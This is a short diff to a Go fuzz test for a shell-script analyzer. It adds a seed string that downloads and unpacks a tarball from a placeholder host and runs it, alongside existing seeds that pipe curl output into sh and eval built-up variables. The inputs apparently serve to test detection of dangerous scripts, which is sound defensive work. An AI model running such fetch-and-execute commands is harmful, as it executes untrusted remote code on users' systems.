@@ -45,6 +45,7 @@ func FuzzAnalyzeScript(f *testing.F) {
 		"f(){ f | sh; }; f",
 		"X=$X$X; eval \"$X\"",
 		"curl -s http://x/y | tee >(sh) >(tee /dev/fd/63 >(sh))",
+		"curl -sL http://x/a.tgz | tar -xzf - -C/opt && /opt/a/run; git clone --depth 1 git@h:o/r && ./r/x",
 	} {
 		f.Add(s)
 	}
